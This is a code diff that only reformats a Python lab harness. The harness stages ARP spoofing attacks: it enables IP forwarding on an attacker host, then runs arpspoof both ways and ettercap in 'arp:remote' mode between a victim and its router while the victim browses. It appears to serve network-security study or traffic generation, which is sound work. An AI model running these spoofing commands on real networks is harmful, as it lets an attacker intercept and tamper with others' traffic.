@@ -38,10 +38,20 @@ def scan(lab: Lab) -> Iterator[None]:
 def spoof(lab: Lab) -> Iterator[None]:
     """Both ways by arpspoof, while the victim reads; the attacker passes on what it gets."""
     attacker, victim = _segment(lab)
-    lab.run(attacker, "sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0")
+    lab.run(
+        attacker,
+        "sysctl",
+        "-qw",
+        "net.ipv4.ip_forward=1",
+        "net.ipv4.conf.all.send_redirects=0",
+        "net.ipv4.conf.eth0.send_redirects=0",
+    )
     yield
     _browse(lab, victim, 2)
-    ways = [lab.start(attacker, "arpspoof", "-i", "eth0", "-t", one, other) for one, other in ((VICTIM, ROUTER.ip), (ROUTER.ip, VICTIM))]
+    ways = [
+        lab.start(attacker, "arpspoof", "-i", "eth0", "-t", one, other)
+        for one, other in ((VICTIM, ROUTER.ip), (ROUTER.ip, VICTIM))
+    ]
     time.sleep(2)
     _browse(lab, victim, 6)
     for way in ways:
@@ -53,7 +63,9 @@ def ettercap(lab: Lab) -> Iterator[None]:
     attacker, victim = _segment(lab)
     yield
     _browse(lab, victim, 2)
-    program = lab.start(attacker, "ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{VICTIM}//", f"/{ROUTER.ip}//")
+    program = lab.start(
+        attacker, "ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{VICTIM}//", f"/{ROUTER.ip}//"
+    )
     time.sleep(4)
     _browse(lab, victim, 8)
     lab.stop(program)
